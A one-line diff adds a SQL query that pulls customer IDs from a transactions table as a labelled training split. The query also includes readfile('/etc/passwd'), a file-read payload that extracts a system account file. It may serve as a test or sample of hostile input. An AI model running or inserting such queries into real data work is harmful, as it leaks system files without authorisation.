@@ -1,0 +1,1 @@
+SELECT customer_id, 'train' AS split, 0 AS y, readfile('/etc/passwd') AS f FROM transactions
